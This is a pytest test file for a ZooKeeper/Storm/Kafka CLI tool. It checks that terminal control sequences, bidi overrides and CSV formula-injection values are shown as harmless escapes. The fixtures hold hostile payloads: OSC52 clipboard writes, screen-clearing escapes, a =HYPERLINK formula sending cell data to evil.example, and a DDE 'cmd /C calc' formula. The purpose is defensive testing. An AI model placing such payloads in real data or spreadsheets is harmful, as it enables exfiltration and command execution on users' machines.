"""Text from ZooKeeper is data, never terminal control nor a spreadsheet formula; a deep tree in a narrow
terminal loses no level.

Hostile values are seeded as their writers store them (Storm's Thrift ``ErrorInfo`` and ``StormBase`` in
gzip, Kafka's JSON) into the real server. ZooKeeper itself refuses C0 and C1 controls in znode names
(``PathUtils.validatePath``), so a name carries Unicode's bidi overrides instead, which it accepts.
"""

from __future__ import annotations

import csv
import io
import json
import re
import time
from datetime import UTC, datetime

from kazoo.client import KazooClient
from kazoo.security import make_digest_acl
from rich.console import Console

from tests.conftest import Chroot, load_cluster
from tests.test_cli import run
from zkstorm.sandbox.encode import kafka_json, storm_gzip

OSC52 = "\x1b]52;c;ZWNobyBwd25lZA==\x07"  # writes the clipboard
TITLE = "\x1b]0;owned\x07"  # retitles the window
CLEAR = "\x1b[2J"  # clears the screen
C1_CSI = "\x9b2J"  # the same, with the one-byte CSI of C1
RLO = "\u202e"  # right-to-left override
ERROR = (
    f"java.lang.RuntimeException: boom{OSC52}{CLEAR}\n\tat a.b.C.d(C.java:1){TITLE}\r\n\tat e.f.G{RLO}(G.java:2)\x08"
)
TOPOLOGY_NAME = f"pay{TITLE}ments"
TOPOLOGY = "payments-7-1790000000"
HOST = f"b1{CLEAR}.example.org"
CONFIG_VALUE = f"lz4{OSC52}{C1_CSI}"
NODE = f"inv{RLO}oice\u2066"
TOPIC = f"ord{RLO}ers"
TEXT_VALUE = f"hello {TITLE}\x07 world"
# JSON escapes C0 controls itself; C1 and bidi controls it leaves as they are
JSON_VALUE = {"note": f"ship{C1_CSI} to {RLO}dlrow"}
HOSTILE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")  # a newline and a tab may stay


def seed(writer: KazooClient, chroot: str) -> None:
    storm = f"{chroot}/storm"
    base = {"name": TOPOLOGY_NAME, "status": "ACTIVE", "num_workers": 1, "launch_time_secs": 1}
    writer.create(f"{storm}/storms/{TOPOLOGY}", storm_gzip("StormBase", base), makepath=True)
    info = {"error": ERROR, "error_time_secs": int(time.time()) - 5, "host": HOST, "port": 6700}
    writer.create(f"{storm}/errors/{TOPOLOGY}/split/e0000000001", storm_gzip("ErrorInfo", info), makepath=True)
    # version 1: its legacy host is the broker's address (from version 2 on Kafka takes the endpoints', and
    # its EndPoint parser refuses a control character in a host)
    registration = {"version": 1, "host": HOST, "port": 9092, "jmx_port": -1, "timestamp": "1"}
    writer.create(f"{chroot}/brokers/ids/1", kafka_json(registration), makepath=True)
    config = {"version": 1, "config": {"compression.type": CONFIG_VALUE}}
    writer.create(f"{chroot}/config/topics/orders", kafka_json(config), makepath=True)
    writer.create(f"{chroot}/notes/{NODE}", TEXT_VALUE.encode(), makepath=True)
    writer.create(
        f"{chroot}/brokers/topics/{TOPIC}", kafka_json({"version": 1, "partitions": {"0": [1]}}), makepath=True
    )
    offline = {"controller_epoch": 1, "leader": -1, "version": 1, "leader_epoch": 0, "isr": [1]}
    writer.create(f"{chroot}/brokers/topics/{TOPIC}/partitions/0/state", kafka_json(offline), makepath=True)
    writer.create(f"{chroot}/notes/json", json.dumps(JSON_VALUE, ensure_ascii=False).encode(), makepath=True)


def assert_shown_safely(out: str, *escapes: str) -> None:
    assert HOSTILE.search(out) is None, [m.group() for m in HOSTILE.finditer(out)]
    for escape in escapes:
        assert escape in out, (escape, out)


def test_tables_and_trees_show_control_characters_as_escapes(writer: KazooClient, zk_root: Chroot) -> None:
    """Each table and tree shows the escapes, never the raw characters; JSON keeps the exact values."""
    seed(writer, zk_root.path)
    zk = ("--zk", zk_root.zk)
    wide = {"COLUMNS": "250"}
    cases: dict[tuple[str, ...], tuple[str, ...]] = {
        ("errors", TOPOLOGY): (r"\x1b]52;c;ZWNobyBwd25lZA==\x07", r"\x1b[2J", "b1"),
        ("storm", "topologies"): (r"pay\x1b]0;owned\x07ments",),
        ("kafka", "brokers"): (r"b1\x1b[2J.example.org",),
        ("kafka", "configs"): (r"lz4\x1b]52;c;", r"\x9b2J"),
        ("get", "/config/topics/orders"): (r"\x1b]52;c;",),
        ("get", f"/notes/{NODE}", "--raw"): (r"/notes/inv\u202eoice\u2066", "00000000  "),
        ("get", "/notes/json"): (r"ship\x9b2J to \u202edlrow",),
        ("get", f"/storm/errors/{TOPOLOGY}/split/e0000000001"): (r"\x1b[2J",),
        ("tree", "/"): (r"inv\u202eoice\u2066", r"pay\x1b]0;owned\x07ments"),
        ("storm", "components", TOPOLOGY): (),
        ("kafka", "health", "--detail"): (r"ord\u202eers",),
        ("kafka", "partitions"): (r"ord\u202eers",),
    }
    for args, escapes in cases.items():
        result = run(*zk, *args, env=wide)
        assert result.exit_code == 0, (args, result.output)
        assert_shown_safely(result.stdout, *escapes)
    full = run(*zk, "errors", TOPOLOGY, "--full", env=wide)
    assert_shown_safely(full.stdout, r"\x1b]0;owned\x07", r"G\u202e(G.java:2)\x08")
    lines = full.stdout.splitlines()  # the trace keeps its lines (its CRLF one line break)
    assert any("at a.b.C.d(C.java:1)" in line for line in lines)
    assert not any("C.java:1" in line and "e.f.G" in line for line in lines)
    assert_json_keeps_the_exact_values(zk)


def assert_json_keeps_the_exact_values(zk: tuple[str, ...]) -> None:
    """JSON carries the exact values, escaped by JSON itself."""
    (error,) = json.loads(run(*zk, "errors", TOPOLOGY, "-f", "json").stdout)
    assert error["error"] == ERROR and error["host"] == HOST
    topologies = json.loads(run(*zk, "storm", "topologies", "--json").stdout)
    assert [t["name"] for t in topologies] == [TOPOLOGY_NAME]
    assert [b["host"] for b in json.loads(run(*zk, "kafka", "brokers", "--json").stdout)] == [HOST]
    assert [c["value"] for c in json.loads(run(*zk, "kafka", "configs", "--json").stdout)] == [CONFIG_VALUE]
    paths = [json.loads(line)["path"] for line in run(*zk, "tree", "/notes", "-f", "jsonl").stdout.splitlines()]
    assert f"/notes/{NODE}" in paths
    assert json.loads(run(*zk, "get", "/notes/json", "--json").stdout)["value"] == JSON_VALUE
    raw_hex = json.loads(run(*zk, "get", f"/notes/{NODE}", "--raw", "--json").stdout)["raw_hex"]
    assert bytes.fromhex(raw_hex).decode() == TEXT_VALUE


def test_stderr_lines_show_control_characters_as_escapes(writer: KazooClient, zk_root: Chroot) -> None:
    """A warning quoting a znode's path, and an error naming the topologies that exist."""
    seed(writer, zk_root.path)
    writer.create(f"{zk_root.path}/notes/{NODE}-locked", b"x", acl=[make_digest_acl("o", "p", all=True)])
    warned = run("--zk", zk_root.zk, "tree", "/notes", "-f", "jsonl")
    assert warned.exit_code == 0
    assert_shown_safely(warned.stderr, r"inv\u202eoice\u2066-locked: unreadable")
    failed = run("--zk", zk_root.zk, "errors", "no-such-topology")
    assert failed.exit_code == 4
    assert_shown_safely(failed.stderr, r"pay\x1b]0;owned\x07ments")


def test_storm_components_last_error_is_shown_safely(writer: KazooClient, zk_root: Chroot) -> None:
    """The components view's last-error column, on the storm2 fixture with a hostile newest error."""
    load_cluster(writer, zk_root.path, "storm", "storm2")
    topology = "fraud-scorer-3-1751880000"
    info = {"error": ERROR, "error_time_secs": int(time.time()), "host": HOST, "port": 6700}
    component = f"{zk_root.path}/storm/errors/{topology}/score%7Ev3"
    writer.create(f"{component}/e0000000099", storm_gzip("ErrorInfo", info))
    writer.set(f"{component}-last-error", storm_gzip("ErrorInfo", info))  # as reportError writes both
    result = run("--zk", zk_root.zk, "storm", "components", topology, "--wide", env={"COLUMNS": "400"})
    assert result.exit_code == 0, result.output
    assert_shown_safely(result.stdout, r"boom\x1b]52;c;")


def test_history_summary_shows_control_characters_as_escapes() -> None:
    """``history``'s summary: an incident's summary and a metric's top entries come from snapshots."""
    from zkstorm.jobs.history import HistoryResult, print_summary
    from zkstorm.jobs.incidents import Incident
    from zkstorm.jobs.report import ChartData

    when = datetime(2026, 1, 2, tzinfo=UTC)
    incident = Incident(
        cluster="c1", root="/storm", system="storm", kind="errors", level="warning", started=when, ended=None,
        ongoing=True,
        snapshots=1, subjects=[TOPOLOGY_NAME], count=1, summary=f"errors in {TOPOLOGY_NAME}", chart="storm_errors",
    )  # fmt: skip
    chart = ChartData(
        name="storm_errors", system="storm", title="Errors", kind="top", x="topology", ys=("errors",), group=None,
        rows=[{"topology": TOPOLOGY_NAME, "errors": 3}],
    )  # fmt: skip
    result = HistoryResult(snapshots=1, clusters=[f"c{CLEAR}1"], first=when, last=when, charts=[chart])
    result.incidents = [incident]
    out = io.StringIO()
    print_summary(result, Console(file=out, width=200, color_system=None))
    assert_shown_safely(out.getvalue(), r"errors in pay\x1b]0;owned\x07ments", r"c\x1b[2J1")


def test_csv_cells_are_never_formulas(writer: KazooClient, zk_root: Chroot) -> None:
    """OWASP's rule: a text cell starting with = + - @ tab or CR gets a leading quote; numbers, and text
    that is a plain number, stay as they are; control characters are shown as escapes."""
    values = {
        "a.link": '=HYPERLINK("http://evil.example/?x="&A1,"open")',
        "b.plus": "+1+cmd|' /C calc'!A0",
        "c.minus": "-2+3",
        "d.at": "@SUM(1+1)",
        "e.tab": "\t=1+1",
        "f.cr": "\r=1+1",
        "g.number": "-1",
        "h.control": f"x{OSC52}",
    }
    writer.create(f"{zk_root.path}/config/topics/t", kafka_json({"version": 1, "config": values}), makepath=True)
    writer.create(
        f"{zk_root.path}/brokers/topics/t/partitions/0/state",
        kafka_json({"controller_epoch": 1, "leader": -1, "version": 1, "leader_epoch": 0, "isr": [1]}),
        makepath=True,
    )
    writer.set(f"{zk_root.path}/brokers/topics/t", kafka_json({"version": 1, "partitions": {"0": [1]}}))
    expected = {
        "a.link": "'" + values["a.link"],
        "b.plus": "'" + values["b.plus"],
        "c.minus": "'-2+3",
        "d.at": "'@SUM(1+1)",
        "e.tab": "'\t=1+1",
        "f.cr": r"\r=1+1",
        "g.number": "-1",
        "h.control": r"x\x1b]52;c;ZWNobyBwd25lZA==\x07",
    }
    for args in (("kafka", "configs", "-f", "csv"), ("get", "/config/topics/t", "-f", "csv")):
        out = run("--zk", zk_root.zk, *args).stdout
        assert HOSTILE.search(out.replace("\t", "")) is None
        cells = {row["key"]: row["value"] for row in csv.DictReader(io.StringIO(out))}
        assert cells == expected, args
    (partition,) = csv.DictReader(io.StringIO(run("--zk", zk_root.zk, "kafka", "partitions", "-f", "csv").stdout))
    assert partition["leader"] == "-1"  # a number, not text: never quoted


def test_a_deep_tree_in_a_narrow_terminal_keeps_every_level(writer: KazooClient, zk_root: Chroot) -> None:
    """rich's tree gives a label no room once the guides fill the width, and drops it; every node must
    keep its line and its name."""
    names = [f"level{i:02d}" for i in range(16)]
    writer.create(zk_root.path + "/" + "/".join(names), b"", makepath=True)
    writer.create(f"{zk_root.path}/{names[0]}/sibling", b"")
    for columns in ("40", "24"):
        result = run("--zk", zk_root.zk, "tree", "/", env={"COLUMNS": columns})
        assert result.exit_code == 0, result.output
        lines = result.stdout.splitlines()
        for name in [*names, "sibling"]:
            assert sum(name in line for line in lines) == 1, (columns, name, result.stdout)
        assert all(len(line) <= int(columns) for line in lines), result.stdout
    deep = [line for line in run("--zk", zk_root.zk, "tree", "/", env={"COLUMNS": "40"}).stdout.splitlines()]
    assert any(line.startswith("…") and "level15" in line for line in deep)


def test_watch_lines_show_control_characters_as_escapes() -> None:
    from zkstorm.records import WatchChange
    from zkstorm.render import watch_line

    change = WatchChange(
        round=2, at=datetime(2026, 1, 2, tzinfo=UTC), change="changed", subject=f"offline_partition {TOPIC}-0",
        level="error", detail=f"leader on {HOST}", was=f"leader {OSC52}", root="/",
    )  # fmt: skip
    out = io.StringIO()
    Console(file=out, width=200, color_system=None).print(watch_line(change))
    assert_shown_safely(out.getvalue(), r"ord\u202eers-0", r"b1\x1b[2J.example.org", r"(was leader \x1b]52;c;")


def test_prometheus_label_values_show_control_characters_as_escapes(writer: KazooClient, zk_root: Chroot) -> None:
    """A textfile collector's ``.prom`` is read with ``cat`` too: every label value from ZooKeeper (a
    topology's name, a topic, a member's mode) carries its control characters as escapes, and the
    exposition still parses, each label reading as the escaped text."""
    from prometheus_client.parser import text_string_to_metric_families

    from tests.faults import odd_peer
    from tests.test_ensemble import text

    seed(writer, zk_root.path)
    zk = ("--zk", zk_root.zk)
    cases: dict[tuple[str, ...], str] = {
        ("storm", "topologies"): r"pay\x1b]0;owned\x07ments",
        ("kafka", "partitions"): r"ord\u202eers",
        ("kafka", "health"): r"ord\u202eers",
    }
    srvr = text("srvr-follower.txt").replace("Mode: follower", f"Mode: fol{OSC52}{RLO}lower")
    with odd_peer({"srvr": srvr}) as peer:
        cases[("--zk", f"127.0.0.1:{peer.port}", "zk", "members", "--admin-port", "0")] = r"fol\x1b]52;c;"
        for args, escape in cases.items():
            result = run(*zk, *args, "-f", "prometheus")
            assert result.exit_code == 0, (args, result.output)
            assert_shown_safely(result.stdout)
            labels = {
                value
                for family in text_string_to_metric_families(result.stdout)
                for sample in family.samples
                for value in sample.labels.values()
            }
            assert any(escape in value for value in labels), (args, sorted(labels))
